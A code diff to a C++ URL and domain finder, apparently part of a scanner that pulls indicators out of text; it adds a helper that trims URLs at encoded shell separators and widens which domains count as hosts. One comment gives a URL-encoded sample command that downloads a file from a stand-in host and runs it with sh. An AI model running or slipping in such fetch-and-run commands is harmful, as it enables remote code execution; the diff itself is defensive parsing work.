@@ -18,6 +18,15 @@ constexpr auto kSchemes = std::to_array<std::string_view>(
      "ssl",    "tls",   "stratum+tcp", "stratum+ssl", "stratum", "mqtt",  "mqtts",  "ircs", "quic",   "h2",  "grpc",
      "socks4", "socks", "redis",       "mongodb",     "vless",   "vmess", "trojan", "git",  "svn",    "vnc"});
 
+// "wget%20http://a.example/b%3B%20sh%20b": of a command that a request carries, to the end of its word.
+std::size_t encoded_word(std::string_view url) {
+  std::size_t end = url.size();
+  for (const std::string_view mark :
+       {";", "`", "%20", "%3B", "%3b", "%7C", "%7c", "%26", "%22", "%27", "%60", "%0A", "%0a"})
+    end = std::min(end, url.find(mark));
+  return end;
+}
+
 }  // namespace
 
 // Behind a URL that begins at `from`: closing marks and brackets that were not opened in it are not part of it.
@@ -115,6 +124,7 @@ std::size_t Finder::url(std::size_t at) {
   std::size_t authority = colon + 3;
   while (here(authority) == '/') ++authority;
   std::size_t end = url_end(authority);
+  if (at == fresh_) end = authority + encoded_word(text_.substr(authority, end - authority));
   if (end <= authority) return at;
   std::size_t host_begin = authority;
   const std::string_view first = text_.substr(authority, end - authority);
@@ -307,7 +317,7 @@ bool Finder::as_domain(std::size_t begin, std::size_t end, std::string_view word
                                        "beacon", "registered", "nameserver", "infrastructure", "contact"});
   if (head.find("file") != std::string::npos) return false;
   if (word.find('_') != word.npos) return false;  // no host of the web has one
-  if (is_utility_site(lower(word)) || is_cited_site(lower(word))) return true;
+  if (is_utility_site(lower(word)) || is_cited_site(lower(word)) || is_shared_service(lower(word))) return true;
   if (head.find("domain") != std::string::npos || head.find("host") != std::string::npos) return true;
   std::size_t file_at = 0, host_at_ = 0;
   for (const std::string_view w : kFile) {
